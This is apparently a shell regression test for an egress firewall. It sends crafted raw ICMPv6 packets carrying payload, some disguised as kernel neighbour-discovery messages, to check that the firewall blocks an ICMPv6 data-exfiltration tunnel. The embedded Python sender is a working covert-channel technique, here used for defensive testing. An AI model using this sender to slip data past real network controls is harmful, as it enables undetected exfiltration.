#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# docs/security.md, class 3: the always-allowed ICMPv6 types (neighbour
# solicitation/advertisement, router solicitation, packet too big, MLD
# reports) carried arbitrary payload from a raw ICMPv6 socket to any
# global address. A root workload with Docker's default capabilities
# sends each, with the hop limit the RFCs give it, to a global address no
# rule allows: none may arrive, each makes a violation line, and IPv6
# keeps working (the kernel's neighbour discovery both ways, to an
# allowed address). Sidecar topology, with BPF judging every packet
# (host), nftables alone (nohost), and nftables with IPv6 off.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/sidecar.sh"
sidecar_init

DOCKER_CAPS=+chown,+dac_override,+fowner,+fsetid,+kill,+setgid,+setuid,+setpcap,+net_bind_service,+net_raw,+sys_chroot,+mknod,+audit_write,+setfcap
TARGET=fd00:200:$X::81	# on the link's far side, allowed by no rule

# A raw ICMPv6 listener in the internet namespace: every ICMPv6 message
# that reaches $TARGET, logged as "type payload".
icmp6_listener() {
	: >"$T/icmp6.log"
	ip netns exec "$NET" "$PY" -c '
import socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.settimeout(30)
print("ready", flush=True)
while True:
    try:
        d, a = s.recvfrom(2048)
    except OSError:
        break
    print(d[0], a[0], d[24:32].hex(), d[8:].decode("latin-1").replace("\n", " "), flush=True)
' >"$T/icmp6.log" 2>&1 &
	EGIT_PIDS+=("$!")
	wait_for 5 grep -q ready "$T/icmp6.log" || die "ICMPv6 listener did not start"
}

# icmp6_send TAG: from the workload (root, Docker's capabilities), one of
# each type to $TARGET, the payload naming type and TAG.
icmp6_send() {
	run_workload setpriv --bounding-set=-all,$DOCKER_CAPS --inh-caps=-all -- \
		"$PY" - "$TARGET" "$1" "$SB6" <<'PY'
import socket, struct, sys
dst, tag, me = sys.argv[1], sys.argv[2], sys.argv[3]
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
# (type, hop limit, body before the payload)
msgs = [
    (135, 255, b"\0" * 4 + socket.inet_pton(socket.AF_INET6, dst)),  # NS
    (136, 255, b"\x60\0\0\0" + socket.inet_pton(socket.AF_INET6, dst)),  # NA
    (133, 255, b"\0" * 4),  # RS
    (2, 64, struct.pack("!I", 1280)),  # packet too big
    (143, 1, b"\0\0\0\1"),  # MLDv2 report
]
for t, hl, body in msgs:
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, hl)
    pkt = struct.pack("!BBH", t, 0, 0) + body + ("tunnel-%d-%s" % (t, tag)).encode()
    try:
        s.sendto(pkt, (dst, 0))
    except OSError:
        pass
# Shaped exactly as the kernel's NUD probe and solicited answer, the
# 6-byte link-layer address option as the only cargo (02deadbeef01/02):
# what the BPF program cannot tell from the kernel's own.
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
for t, flags, target, opt in ((135, 0, dst, 1), (136, 0x60, me, 2)):
    pkt = (struct.pack("!BBHB3x", t, 0, 0, flags) +
           socket.inet_pton(socket.AF_INET6, target) +
           bytes([opt, 1]) + bytes.fromhex("02deadbeef0%d" % opt))
    try:
        s.sendto(pkt, (dst, 0))
    except OSError:
        pass
PY
}

icmp6_scenario() {
	local v=$1 tag=$2 t
	shift 2
	start_upstream
	start_servers web-$tag tcp:"[$WEB6]":80
	icmp6_listener
	start_egressd_sidecar "$v" --mode dns+nft --rules "$POLICY" "$@" ||
		die "$tag: egressd exited with status $SC_RC: $(cat "$T/egressd.err")"

	icmp6_send "$tag"
	sleep 1
	for t in 135 136 133 2 143; do
		assert_not_contains "$tag: ICMPv6 type $t with payload never reaches $TARGET" \
			"$(tr -d '\0' <"$T/icmp6.log")" "tunnel-$t-$tag"
	done
	assert_not_contains "$tag: kernel-shaped NS with cargo never reaches $TARGET" \
		"$(tr -d '\0' <"$T/icmp6.log")" "02deadbeef01"
	assert_not_contains "$tag: kernel-shaped NA with cargo never reaches $TARGET" \
		"$(tr -d '\0' <"$T/icmp6.log")" "02deadbeef02"
	wait_json_line "$tag: violation line for the ICMPv6 tunnel" "$T/egressd.out" \
		event=violation layer=packet proto=icmpv6 dst="$TARGET" action=drop

	if [ "$tag" != v6off ]; then
		# IPv6 still works: fresh neighbour entries on both sides, so
		# the kernel's solicitations and answers (global addresses,
		# NUD) go through the rules.
		ip -n "$SB" neigh flush dev "$VS"
		ip -n "$NET" neigh flush dev "$VN"
		q @"$DNS4" api.github.com AAAA
		assert_eq "$tag: allowed name has its AAAA" "$WEB6" "$Q_ANSWER"
		assert_connects "$tag: learned IPv6 address reachable" "$WEB6" 80
		assert_connects "$tag: and again, neighbour entries aged" "$WEB6" 80
	fi

	stop_egressd
	nsenter --net="/run/netns/$SB" -- "$EGRESSD" --cleanup >/dev/null 2>&1
	for p in "${EGIT_PIDS[@]}"; do stop_pid "$p"; done
	EGIT_PIDS=()
}

# Before anything: the attack works without egressd (the test can see it).
# The fresh veth may still be settling (DAD of its link-local address,
# first neighbour resolution): a few tries.
icmp6_listener
for try in 1 2 3 4 5; do
	icmp6_send "bare$try"
	sleep 0.5
	n=$(tr -d '\0' <"$T/icmp6.log" | grep -c -- "-bare$try")
	[ "$n" -ge 5 ] && break
done
if [ "$n" -ge 5 ]; then
	pass "without egressd the ICMPv6 tunnel works"
else
	fail "without egressd the ICMPv6 tunnel works" "$n of 5 messages arrived"
fi
assert_contains "without egressd the kernel-shaped NS arrives" "$(tr -d '\0' <"$T/icmp6.log")" "02deadbeef01"
assert_contains "without egressd the kernel-shaped NA arrives" "$(tr -d '\0' <"$T/icmp6.log")" "02deadbeef02"
for p in "${EGIT_PIDS[@]}"; do stop_pid "$p"; done
EGIT_PIDS=()

icmp6_scenario host bpf
icmp6_scenario nohost nft
icmp6_scenario nohost v6off --ipv6 deny
egit_finish
